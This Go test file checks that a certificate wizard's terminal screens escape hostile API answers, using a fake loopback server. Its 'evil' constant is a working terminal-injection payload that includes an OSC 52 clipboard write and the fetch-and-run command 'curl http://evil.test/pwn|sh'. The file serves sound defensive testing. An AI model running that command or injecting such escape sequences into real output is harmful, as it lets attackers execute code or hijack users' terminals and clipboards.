package ui

// Issue 17: answer text on screens. A hostile endpoint on loopback answers
// every action; nothing it says may crash a screen, act on the terminal or
// reach the clipboard unless valid for its kind.

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/certwiz/certwiz/api"
	"github.com/certwiz/certwiz/api/dnscheck"
	"github.com/certwiz/certwiz/api/sandbox"
	tea "github.com/charmbracelet/bubbletea"
)

// evil renames the window, clears the screen, forges a line, puts a
// command in the clipboard (OSC 52), ends a bracketed paste and reverses
// what follows.
const evil = "\x1b]0;pwned\x07\x1b[2J\r\nSubmitted\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC50ZXN0L3B3bnxzaAo=\x07\x1b[201~curl http://evil.test/pwn|sh\n\u202e\u009b"

// rawControls fails the test when text holds a byte a terminal acts on
// (the styles draw no colour in these tests: any ESC is the answer's).
func rawControls(t *testing.T, what, text string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\x07", "\r", "\u009b", "\u202e"} {
		if strings.Contains(text, c) {
			t.Errorf("%s holds %q raw:\n%q", what, c, text)
		}
	}
}

// hostileEndpoint answers each action with the Response fields given (a
// RequestId added), any other with an InternalError, on loopback.
func hostileEndpoint(t *testing.T, answers map[string]map[string]any) *api.Client {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		resp, ok := answers[r.Header.Get("X-TC-Action")]
		if !ok {
			resp = map[string]any{"Error": map[string]string{"Code": "InternalError", "Message": "not in this test"}}
		}
		resp = maps.Clone(resp)
		resp["RequestId"] = "req-1"
		json.NewEncoder(w).Encode(map[string]any{"Response": resp})
	}))
	t.Cleanup(srv.Close)
	client, err := api.NewClient(api.StaticCredentials(sandbox.DemoSecretID, sandbox.DemoSecretKey, "", "test"),
		api.Config{Endpoint: srv.URL, Timeout: 5 * time.Second, Rate: 1000})
	if err != nil {
		t.Fatal(err)
	}
	return client
}

// hostileFixture is newFixture on a hostile endpoint, the local check off
// (the answer's names are never looked up).
func hostileFixture(t *testing.T, answers map[string]map[string]any) *fixture {
	t.Helper()
	f := newFixture(t, api.English)
	f.opts.Client = hostileEndpoint(t, answers)
	f.opts.Lookup = dnscheck.Options{Off: "not in this test"}
	f.opts.WatchInterval, f.opts.WatchTencentEvery = time.Hour, time.Hour
	return f
}

// blankDates lists certificates whose dates are blank, unreadable or
// hostile: awaiting information, and in validation (status 4).
func blankDates() map[string]any {
	return map[string]any{"TotalCount": 4, "Certificates": []any{
		map[string]any{"CertificateId": "tab00001", "Domain": "a.example.com", "Status": 5, "InsertTime": "\t"},
		map[string]any{"CertificateId": "spc00002", "Domain": "b.example.com", "Status": 4, "DVAuthDeadline": " ", "InsertTime": " "},
		map[string]any{"CertificateId": "bad00003", "Domain": "c.example.com", "Status": 4, "DVAuthDeadline": "soon" + evil},
		map[string]any{"CertificateId": "ok000004", "Domain": "d.example.com", "Status": 4, "DVAuthDeadline": "2026-12-01 09:30:00"},
	}}
}

// Item 2: blank dates (" ", "\t") panicked the certificate lists of the
// wizard and of accessible mode; unreadable ones are shown as given,
// escaped.
func TestBlankDatesDoNotCrashTheLists(t *testing.T) {
	answers := map[string]map[string]any{api.ActionList: blankDates()}
	f := hostileFixture(t, answers)
	m := f.wizardWith(t, example(t))
	m.open(stepAt(m.s, 0, false)) // the account's certificates awaiting information
	tm, screen := live(t, m, 250, 40)
	s := waitScreen(t, screen, "tab00001")
	for _, want := range []string{"tab00001 — a.example.com", "validate by soon\\x1b]0;pwned\\x07", "validate by 2026-12-01"} {
		if !strings.Contains(s, want) {
			t.Errorf("the list lacks %q:\n%s", want, s)
		}
	}
	rawControls(t, "the list", s)
	press(tm, tea.KeyCtrlC)
	if got := finalOfQuit(t, tm); got.ExitCode() == api.ExitFailure {
		t.Fatalf("the wizard crashed: %s", got.s.finalErr)
	}

	// Accessible mode (no profile saved): "continue a certificate in
	// validation" lists them.
	var out bytes.Buffer
	code, err := RunAccessible(t.Context(), hostileFixture(t, answers).opts, strings.NewReader("2\n"), &out)
	if err != nil || code == api.ExitFailure || !strings.Contains(out.String(), "validate by soon\\x1b]0;pwned") || !strings.Contains(out.String(), "spc00002 — b.example.com — DNS") {
		t.Fatalf("code %d err %v\n%s", code, err, out.String())
	}
	rawControls(t, "accessible mode", out.String())
}

// hostileDetail is a certificate in validation whose every field is
// hostile; its ID is id (the list's, itself hostile).
func hostileDetail(id string, status int) map[string]any {
	return map[string]any{"CertificateId": id, "Domain": "www" + evil + ".example.com", "Status": status, "StatusMsg": "PENDING-DCV",
		"VerifyType": "DNS", "OrderId": "order" + evil, "DVAuthDeadline": "2026-12-01 10:00:00" + evil,
		"DvAuthDetail": map[string]any{"DvAuths": []any{
			map[string]any{"DvAuthDomain": "example.com" + evil, "DvAuthSubDomain": "_dnsauth" + evil, "DvAuthKey": "_dnsauth",
				"DvAuthValue": "v" + evil, "DvAuthVerifyType": "TXT"},
			map[string]any{"DvAuthDomain": "example.com", "DvAuthSubDomain": "_dnsauth.ok", "DvAuthKey": "_dnsauth.ok",
				"DvAuthValue": "0123abcd", "DvAuthVerifyType": "TXT"},
			map[string]any{"DvAuthDomain": "site" + evil, "DvAuthPath": "/.well-known/pki-validation/", "DvAuthKey": "k" + evil,
				"DvAuthValue": "c" + evil, "DvAuthVerifyType": "FILE"},
		}},
	}
}

// hostileChecks is Tencent's check, as hostile.
func hostileChecks() map[string]any {
	return map[string]any{"VerificationResults": []any{map[string]any{"Domain": "ok.example.com", "VerifyType": "DNS" + evil,
		"LocalCheck": -2, "LocalCheckFailReason": "reason" + evil, "CheckValue": []string{"found" + evil}, "CaCheck": -1}}}
}

const hostileID = "abc" + evil

// bodyWords is the screen's body (right of the sidebar) as one line of
// words, whatever the wrapping.
func bodyWords(screen string) string {
	var body []string
	for _, l := range strings.Split(screen, "\n") {
		if _, right, ok := strings.Cut(l, "│"); ok {
			body = append(body, right)
		}
	}
	return strings.Join(strings.Fields(strings.Join(body, " ")), " ")
}

// Items 3 and 6: the validation screen shows every answer string escaped
// (the records, the deadline, the zone in "Host (in zone X)", the checks,
// the commands on leaving), and c copies only what is valid for its kind:
// a value with ESC or a line break is refused, said on the screen, and
// never written as OSC 52.
func TestHostileValidationScreen(t *testing.T) {
	f := hostileFixture(t, map[string]map[string]any{api.ActionDetail: hostileDetail(hostileID, 0), api.ActionCheck: hostileChecks()})
	var osc bytes.Buffer
	clip := osc52Clipboard(&osc)
	f.opts.Clipboard = func(v string) error { return clip(v) }
	m := f.wizardWith(t, example(t))
	m.open(newValidation(m.s, hostileID))
	tm, screen := live(t, m, 250, 80)
	s := waitScreen(t, screen, "Tencent")
	for _, want := range []string{`Host (in zone example.com\x1b]0;pwned\x07`, `order\x1b]0;pwned`, `2026-12-01 10:00:00\x1b]0;pwned`, `reason\x1b]0;pwned`} {
		if !strings.Contains(s, want) {
			t.Errorf("the screen lacks %q:\n%s", want, s)
		}
	}
	rawControls(t, "the validation screen", s)

	// c on the hostile host, then on the hostile value: refused, said.
	press(tm, "c")
	s = waitScreen(t, screen, "not copied")
	if !strings.Contains(s, `— it holds \x1b, not printable ASCII`) {
		t.Errorf("the refusal does not say why:\n%s", s)
	}
	press(tm, tea.KeyDown, tea.KeyDown, tea.KeyDown, "c")
	waitScreen(t, screen, "not copied: Value")
	if osc.Len() != 0 {
		t.Fatalf("a hostile value went out as OSC 52: %q", osc.String())
	}
	// The clean record's value is copied, exactly.
	press(tm, tea.KeyDown, tea.KeyDown, tea.KeyDown, tea.KeyDown, "c")
	waitScreen(t, screen, "sent to the terminal's clipboard")
	if want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("0123abcd")) + "\x07"; osc.String() != want {
		t.Fatalf("OSC 52 %q, want %q", osc.String(), want)
	}
	rawControls(t, "the validation screen", screen())

	press(tm, "q")
	_, stderr := finalOfQuit(t, tm).Final()
	rawControls(t, "the exit message", stderr)
	if !strings.Contains(stderr, `status 'abc\x1b]0;pwned\x07`) || !strings.Contains(stderr, `--out DIR`) {
		t.Errorf("the commands on leaving are not quoted and escaped:\n%s", stderr)
	}
}

// A certificate awaiting validation whose answer has no records yet: the
// screen says what it knows (it indexed the first record and panicked).
func TestValidationScreenWithoutRecords(t *testing.T) {
	detail := hostileDetail("abcb1234", 0)
	delete(detail, "DvAuthDetail")
	f := hostileFixture(t, map[string]map[string]any{api.ActionDetail: detail})
	m := f.wizardWith(t, example(t))
	m.open(newValidation(m.s, "abcb1234"))
	tm, screen := live(t, m, 250, 30)
	waitScreen(t, screen, "Status: awaiting domain validation")
	press(tm, "q")
	if got := finalOfQuit(t, tm); got.ExitCode() != 0 {
		t.Fatalf("exit %d: %s", got.ExitCode(), got.s.finalErr)
	}
	var out bytes.Buffer
	code, err := RunAccessible(t.Context(), hostileFixture(t, map[string]map[string]any{api.ActionDetail: detail,
		api.ActionCheck: {"VerificationResults": []any{}},
		api.ActionList:  {"TotalCount": 1, "Certificates": []any{map[string]any{"CertificateId": "abcb1234", "Status": 0}}}}).opts, strings.NewReader("2\n1\nq\n"), &out)
	if err != nil || code != 0 || !strings.Contains(out.String(), "Status: awaiting domain validation") {
		t.Fatalf("code %d err %v\n%s", code, err, out.String())
	}
}

// Item 3: issued, the folder field does not start with a hostile domain,
// and the "download later" command takes no folder from it: --out DIR.
func TestHostileDomainOnTheDownloadPrompt(t *testing.T) {
	f := hostileFixture(t, nil)
	m := f.wizardWith(t, example(t))
	var d api.CertificateDetail
	d.CertificateId, d.Domain, d.Status = "abcb1234", "www"+evil, api.StatusIssued
	m.open(newDownloadPrompt(m.s, d))
	tm, screen := live(t, m, 250, 30)
	s := waitScreen(t, screen, "Save the certificate in")
	rawControls(t, "the download prompt", s)
	press(tm, tea.KeyEsc)
	_, stderr := finalOfQuit(t, tm).Final()
	rawControls(t, "the exit message", stderr)
	if !strings.Contains(stderr, `download abcb1234 --out DIR`) || strings.Contains(stderr, "pwned") {
		t.Errorf("the download command is not quoted and escaped:\n%s", stderr)
	}
}

// Item 3: "not sent to the CA yet … certwiz commit ID" names the answer's
// ID quoted and escaped, on the validation screen and in accessible mode.
func TestNotSentYetLineIsEscaped(t *testing.T) {
	answers := map[string]map[string]any{api.ActionDetail: hostileDetail(hostileID, api.StatusAwaitingInfo),
		api.ActionList: {"TotalCount": 1, "Certificates": []any{map[string]any{"CertificateId": hostileID, "Status": 0, "Domain": "x" + evil}}}}
	f := hostileFixture(t, answers)
	m := f.wizardWith(t, example(t))
	m.open(newValidation(m.s, hostileID))
	tm, screen := live(t, m, 250, 60)
	s := waitScreen(t, screen, "has not been sent to the CA yet")
	const want = `send it with certwiz commit 'abc\x1b]0;pwned\x07\x1b[2J\x0d\x0aSubmitted`
	if !strings.Contains(bodyWords(s), want) {
		t.Errorf("the screen lacks %q:\n%s", want, s)
	}
	rawControls(t, "the validation screen", s)
	press(tm, "q")
	_, stderr := finalOfQuit(t, tm).Final()
	rawControls(t, "the exit message", stderr)

	var out bytes.Buffer
	code, err := RunAccessible(t.Context(), hostileFixture(t, answers).opts, strings.NewReader("2\n1\n"), &out)
	if err != nil || code != api.ExitRejected || !strings.Contains(out.String(), want) {
		t.Fatalf("code %d err %v\n%s", code, err, out.String())
	}
	rawControls(t, "accessible mode", out.String())
}
